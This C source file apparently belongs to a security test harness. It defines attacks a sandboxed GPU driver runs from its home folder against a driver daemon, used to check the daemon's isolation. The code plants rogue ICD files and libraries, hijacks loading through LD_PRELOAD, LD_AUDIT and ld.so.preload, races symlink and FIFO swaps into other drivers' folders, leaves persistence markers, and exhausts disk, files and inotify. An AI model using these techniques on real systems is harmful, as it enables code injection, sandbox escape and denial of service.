// SPDX-License-Identifier: Apache-2.0
/// Attacks with files that a driver leaves in its own home folder, and that affect other drivers,
/// later runs, or the process that removes the folder.
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

enum { kManyFiles = 5000, kDepth = 1500, kBigFiles = 4 };
static const off_t kBigFile = 100 << 20;

static const char* own_path(void) {
    static Dl_info self;
    return dladdr((void*)own_path, &self) ? self.dli_fname : "";
}

/// Calls `use` for the folder of each other driver below this folder. The daemon creates these
/// folders for OpenCL.
static int each_neighbour(const char* folder, int (*use)(const char* path), int depth) {
    int count = 0;
    DIR* entries = opendir(folder);
    for (const struct dirent* entry = entries ? readdir(entries) : NULL; entry;
         entry = readdir(entries)) {
        char path[4096];
        struct stat info;
        (void)snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        if (entry->d_name[0] == '.' || lstat(path, &info) != 0 || !S_ISDIR(info.st_mode))
            continue;
        if (access(path_in(path, "driver.icd"), F_OK) == 0)
            count += use(path) == 0;
        else if (depth > 0)
            count += each_neighbour(path, use, depth - 1);
    }
    if (entries)
        closedir(entries);
    return count;
}

/// Attacks the folders of other drivers. The homes of other runs may be next to our home, in the
/// folder of the test.
static void race(int (*use)(const char* path)) {
    const char* folder = victim("folder");
    const int is_beside = strncmp(own_home(), folder, strlen(folder)) == 0;
    int count = 0;
    for (const long late = now_ms() + 400; now_ms() < late; pause_ms(1)) {
        count += each_neighbour(own_home(), use, 1);
        if (is_beside)
            count += each_neighbour(path_in(own_home(), ".."), use, 2);
    }
    see("neighbours", count > 0 ? 0 : -1);
}

static int add_driver(const char* folder) {
    return write_text(marked(folder, "evil.icd"), O_CREAT, own_path());
}

static int replace_driver(const char* folder) {
    return write_text(path_in(folder, "driver.icd"), O_TRUNC, "/nonexistent/lib.so\n");
}

static int replace_by_fifo(const char* folder) {
    const char* file = path_in(folder, "driver.icd");
    unlink(file);
    return mkfifo(file, 0644);
}

static int replace_by_link(const char* folder) {
    char away[4096];
    (void)snprintf(away, sizeof away, "%s.moved", folder);
    return rename(folder, away) == 0 ? symlink(victim("outside"), folder) : -1;
}

static int link_file_out(const char* folder) {
    const char* file = path_in(folder, "driver.icd");
    unlink(file);
    return symlink(path_in(victim("outside"), "canary"), file);
}

static void plant(void) {
    race(add_driver);
}

static void racer(void) {
    race(replace_driver);
}

static void plant_fifo(void) {
    race(replace_by_fifo);
}

static void plant_folder_link(void) {
    race(replace_by_link);
}

static void plant_file_link(void) {
    race(link_file_out);
}

/// Writes libraries to places where loaders and compilers look for them.
static void plant_libraries(void) {
    static const char* const kNames[] = {"libOpenCL.so.1", "libcuda.so.1", "libnvidia-ml.so.1",
                                         "libvulkan.so.1", "libze_loader.so.1"};
    for (size_t i = 0; i < sizeof kNames / sizeof *kNames; ++i)
        see(kNames[i], symlink(own_path(), path_in(own_home(), kNames[i])));
    for (const char* const* folder =
             (const char* const[]){"vulkan", "pocl", "cuda", ".config", NULL};
         *folder; ++folder) {
        (void)mkdir(path_in(own_home(), *folder), 0755);
        see(*folder, symlink(own_path(), marked(path_in(own_home(), *folder), "kernel.so")));
        (void)write_text(marked(path_in(own_home(), *folder), "pipe.icd"), O_CREAT, own_path());
        (void)mkfifo(marked(path_in(own_home(), *folder), "fifo"), 0644);
        (void)symlink(victim("outside"), marked(path_in(own_home(), *folder), "out"));
    }
}

/// Writes settings and auditors that loaders, compilers and drivers read in a home folder, and sets
/// LD_AUDIT and similar variables for programs that are started later.
static void plant_settings(void) {
    static const char* const kFiles[][2] = {
        {".drirc", "<driconf/>"},
        {"ld.so.preload", ""},
        {"pocl.conf", ""},
        {"vk_loader_settings.json", "{\"file_format_version\":\"1.0.0\",\"settings\":{}}"}};
    for (size_t i = 0; i < sizeof kFiles / sizeof *kFiles; ++i)
        (void)write_text(path_in(own_home(), kFiles[i][0]), O_CREAT,
                         kFiles[i][1][0] ? kFiles[i][1] : own_path());
    for (const char* const* folder =
             (const char* const[]){"vulkan", "vulkan/implicit_layer.d", "pocl", "pocl/kcache",
                                   ".nv", "OpenCL", "OpenCL/vendors", NULL};
         *folder; ++folder) {
        (void)mkdir(path_in(own_home(), *folder), 0755);
        (void)write_text(marked(path_in(own_home(), *folder), "evil.icd"), O_CREAT, own_path());
        (void)symlink(own_path(), marked(path_in(own_home(), *folder), "auditor.so"));
    }
    (void)setenv("ESCAPE_AUDITED", "1", 1);
    (void)setenv("LD_AUDIT", own_path(), 1);
    (void)setenv("LD_PRELOAD", own_path(), 1);
    (void)setenv("OCL_ICD_VENDORS", own_home(), 1);
    const char* const audited[] = {victim("gpuprobectl"), "version", NULL};
    see("audited", run_program(audited));
    (void)unsetenv("LD_PRELOAD");
    (void)unsetenv("LD_AUDIT");
}

/// Leaves a file that makes the next run of this driver crash.
static void persist(void) {
    static const char* const kFolders[] = {"", "/tmp", "/var/tmp", "/dev/shm"};
    for (size_t i = 0; i < sizeof kFolders / sizeof *kFolders; ++i) {
        const char* file = marked(i == 0 ? own_home() : kFolders[i], "persist");
        if (access(file, F_OK) == 0)
            (void)raise(SIGSEGV);
        see("marker", write_text(file, O_CREAT, "here"));
    }
}

static void fill_disk(void) {
    char name[32];
    for (int i = 0; i < kBigFiles; ++i) {
        (void)snprintf(name, sizeof name, "big-%d", i);
        const int fd = open(marked(own_home(), name), O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
        see("fill", fd < 0 ? -1 : fallocate(fd, 0, 0, kBigFile));
        close(fd);
    }
}

static void fill_files(void) {
    char name[32];
    int made = 0;
    for (; made < kManyFiles; ++made) {
        (void)snprintf(name, sizeof name, "many-%d", made);
        if (write_text(marked(own_home(), name), O_CREAT, "") != 0)
            break;
    }
    see("files", made == kManyFiles ? 0 : -1);
}

/// Creates a folder tree that is deeper than the maximum length of a path.
static void deep_tree(void) {
    int depth = 0;
    if (chdir(own_home()) != 0)
        return;
    for (; depth < kDepth; ++depth)
        if (mkdir(depth == 0 ? marked(".", "deep") : "deeper", 0700) != 0 ||
            chdir(depth == 0 ? marked(".", "deep") : "deeper") != 0)
            break;
    see("deep", depth == kDepth ? 0 : -1);
    (void)!chdir("/");
}

/// Creates folders that their owner may not open.
static void closed_folders(void) {
    const char* closed = marked(own_home(), "closed");
    see("mkdir", mkdir(closed, 0700));
    (void)write_text(path_in(closed, "file"), O_CREAT, "x");
    see("chmod", chmod(closed, 0));
    see("chmod home", chmod(own_home(), 0));
}

static void immutable_file(void) {
    int flags = FS_IMMUTABLE_FL;
    const char* file = marked(own_home(), "immutable");
    (void)write_text(file, O_CREAT, "x");
    const int fd = open(file, O_RDONLY | O_CLOEXEC);
    see("immutable", ioctl(fd, FS_IOC_SETFLAGS, &flags));
}

static void move_home(void) {
    char away[4096];
    (void)snprintf(away, sizeof away, "%s-%smoved", own_home(), victim("mark"));
    see("rename", rename(own_home(), away));
    see("symlink", symlink(victim("outside"), own_home()));
}

/// Uses all inotify instances of the user during the attack, so that the daemon gets none.
static void exhaust_watches(void) {
    int count = 0;
    while (count < 2000 && inotify_init1(IN_CLOEXEC) >= 0)
        ++count;
    see("inotify", count < 2000 ? -1 : 0);
    pause_ms(200);
}

const struct attack kHomeAttacks[] = {
    {"plant", plant},
    {"racer", racer},
    {"plant-fifo", plant_fifo},
    {"plant-folder-link", plant_folder_link},
    {"plant-file-link", plant_file_link},
    {"plant-libraries", plant_libraries},
    {"plant-settings", plant_settings},
    {"persist", persist},
    {"fill-disk", fill_disk},
    {"fill-files", fill_files},
    {"deep-tree", deep_tree},
    {"closed-folders", closed_folders},
    {"immutable-file", immutable_file},
    {"move-home", move_home},
    {"exhaust-watches", exhaust_watches},
    {0},
};
